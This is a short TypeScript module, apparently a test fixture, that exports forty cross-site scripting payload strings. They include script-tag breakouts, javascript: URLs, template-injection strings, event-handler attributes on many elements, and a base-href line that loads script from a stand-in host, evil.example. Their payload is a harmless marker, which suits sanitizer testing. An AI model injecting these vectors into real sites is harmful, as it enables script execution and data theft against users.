/** Texts that would run something in a page that took them for more than text. */

const run = "window.ran=1"

const elements = [
  "img src=x",
  "svg",
  "body",
  "video src=x",
  "audio src=x",
  "iframe",
  "input autofocus",
  "details open",
  "marquee",
  "object data=x"
]
const events = ["onerror", "onload", "onfocus", "ontoggle"]

/** Forty of them. */
export const payloads: ReadonlyArray<string> = [
  `<script>${run}</script>`,
  `"><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `javascript:${run}`,
  `<a href="javascript:${run}">x</a>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `<math><mtext><style><img src=x onerror=${run}>`,
  `<base href="https://evil.example/"><script src="x.js"></script>`,
  ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${run}>`))
].slice(0, 40)
